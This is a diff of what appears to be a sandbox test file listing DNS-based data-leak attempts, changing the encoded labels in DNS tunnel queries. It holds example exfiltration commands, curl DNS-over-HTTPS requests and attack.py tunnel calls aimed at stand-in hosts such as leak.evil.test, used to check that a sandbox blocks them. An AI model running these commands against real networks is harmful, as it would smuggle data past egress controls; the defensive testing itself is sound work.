@@ -86,10 +86,10 @@ export const networkAttempts = [
   dns('dns-over-https', `curl -ksS 'https://${places.otherResolver}/dns-query?dns=leak'`),
   dns('dns-over-https-by-name', "curl -ksS 'https://dns.evil.test/dns-query?dns=leak'"),
   dns('dns-tunnel-address', 'getent ahosts c2VjcmV0.leak.evil.test'),
-  dns('dns-tunnel-text', 'python3 $T/attack.py dns udp 198.18.0.1 c2VjcmV0.leak.evil.test 16'),
-  dns('dns-tunnel-over-tcp', 'python3 $T/attack.py dns tcp 198.18.0.1 c2VjcmV0.leak.evil.test 1'),
-  dns('dns-tunnel-mail', 'python3 $T/attack.py dns udp 198.18.0.1 c2VjcmV0.leak.evil.test 15'),
-  dns('dns-tunnel-unknown-type', 'python3 $T/attack.py dns udp 198.18.0.1 c2VjcmV0.leak.evil.test 65280', {
+  dns('dns-tunnel-text', 'python3 $T/attack.py dns udp 198.18.0.1 dGV4dA.leak.evil.test 16'),
+  dns('dns-tunnel-over-tcp', 'python3 $T/attack.py dns tcp 198.18.0.1 dGNw.leak.evil.test 1'),
+  dns('dns-tunnel-mail', 'python3 $T/attack.py dns udp 198.18.0.1 bWFpbA.leak.evil.test 15'),
+  dns('dns-tunnel-unknown-type', 'python3 $T/attack.py dns udp 198.18.0.1 dHlwZQ.leak.evil.test 65280', {
     control: { none: 'the resolver passes on the types it knows, in an open sandbox as well' },
   }),
   dns('dns-zero-in-a-label', 'python3 $T/attack.py dns-zero 198.18.0.1 api.allowed.test leak.evil.test', {
